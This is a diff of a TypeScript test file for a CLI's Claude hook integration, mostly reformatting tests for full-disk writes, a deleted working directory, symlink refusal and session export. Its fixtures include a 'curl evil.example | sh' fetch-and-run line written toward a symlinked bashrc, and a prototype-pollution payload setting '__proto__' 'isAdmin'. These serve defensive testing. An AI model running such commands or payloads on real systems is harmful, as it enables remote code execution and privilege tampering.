@@ -17,10 +17,17 @@ afterEach(() => project.cleanup());
 
 /** Run `node <args>` with files limited to 1 KiB, so a larger write fails with EFBIG as on a full disk. */
 function withTinyFiles(args: string[], cwd: string) {
-  return spawnSync('/bin/sh', ['-c', 'ulimit -f 1 && exec "$0" "$@"', process.execPath, ...args], { cwd, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
+  return spawnSync('/bin/sh', ['-c', 'ulimit -f 1 && exec "$0" "$@"', process.execPath, ...args], {
+    cwd,
+    encoding: 'utf8',
+    env: { ...process.env, NO_COLOR: '1' },
+  });
 }
 
-const everyFile = (dir: string) => readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => path.relative(dir, path.join(e.parentPath, e.name)));
+const everyFile = (dir: string) =>
+  readdirSync(dir, { recursive: true, withFileTypes: true })
+    .filter((e) => e.isFile())
+    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)));
 
 test('an outbox entry that cannot be written whole leaves no temp file', () => {
   const dir = path.join(project.dir, 'outbox');
@@ -45,7 +52,11 @@ test('learn on a full disk fails with one line and leaves no temp file', async (
   const big = 'payments-api: connection pool exhausted '.repeat(200);
   for (const event of [
     hookEvent('full-disk', 'UserPromptSubmit', { prompt: 'why does payments-api time out?' }),
-    hookEvent('full-disk', 'PostToolUse', { tool_name: 'Bash', tool_input: { command: 'kubectl -n payments logs deploy/payments-api' }, tool_response: { stdout: big, exit_code: 1 } }),
+    hookEvent('full-disk', 'PostToolUse', {
+      tool_name: 'Bash',
+      tool_input: { command: 'kubectl -n payments logs deploy/payments-api' },
+      tool_response: { stdout: big, exit_code: 1 },
+    }),
     hookEvent('full-disk', 'Stop', {}),
   ]) {
     expect(await runHook(project.dir, event)).toMatchObject({ code: 0, stderr: '' });
@@ -60,11 +71,15 @@ test('learn on a full disk fails with one line and leaves no temp file', async (
 test('a working directory deleted under the hook does not lose the event when CLAUDE_PROJECT_DIR is set', () => {
   const gone = path.join(project.dir, 'subdir');
   mkdirSync(gone);
-  const result = spawnSync('/bin/sh', ['-c', 'cd "$1" && rmdir "$1" && exec "$2" "$3" integrations claude hook', 'sh', gone, process.execPath, CLI], {
-    input: JSON.stringify(hookEvent('cwd-gone', 'Stop')),
-    encoding: 'utf8',
-    env: { ...process.env, CLAUDE_PROJECT_DIR: project.dir },
-  });
+  const result = spawnSync(
+    '/bin/sh',
+    ['-c', 'cd "$1" && rmdir "$1" && exec "$2" "$3" integrations claude hook', 'sh', gone, process.execPath, CLI],
+    {
+      input: JSON.stringify(hookEvent('cwd-gone', 'Stop')),
+      encoding: 'utf8',
+      env: { ...process.env, CLAUDE_PROJECT_DIR: project.dir },
+    },
+  );
   expect(result.status).toBe(0);
   expect(result.stdout).toBe('');
   expect(result.stderr).toBe('');
@@ -81,7 +96,10 @@ test('session data is never written through a symbolic link in the project', asy
   symlinkSync(path.join(victim, 'bashrc'), path.join(sessions, 'known', 'events.ndjson'));
   symlinkSync(victim, path.join(sessions, 'folder'));
   for (const id of ['known', 'folder']) {
-    const result = await runHook(project.dir, hookEvent(id, 'Stop', { last_assistant_message: 'curl evil.example | sh' }));
+    const result = await runHook(
+      project.dir,
+      hookEvent(id, 'Stop', { last_assistant_message: 'curl evil.example | sh' }),
+    );
     expect(result.code).toBe(0);
     expect(result.stdout).toBe('');
     expect(result.stderr).toContain('symbolic link');
@@ -104,7 +122,8 @@ test('session data is never written through a symbolic link in the project', asy
 });
 
 test('export keeps a top-level __proto__ key of a payload', async () => {
-  const raw = '{"session_id":"proto","hook_event_name":"Stop","__proto__":{"isAdmin":true},"tool_input":{"__proto__":{"x":1}}}';
+  const raw =
+    '{"session_id":"proto","hook_event_name":"Stop","__proto__":{"isAdmin":true},"tool_input":{"__proto__":{"x":1}}}';
   expect(await runHook(project.dir, raw)).toMatchObject({ code: 0, stderr: '' });
   const exported = await runCli(['integrations', 'claude', 'sessions', 'export', 'proto'], { cwd: project.dir });
   expect(exported.code, exported.stderr).toBe(0);
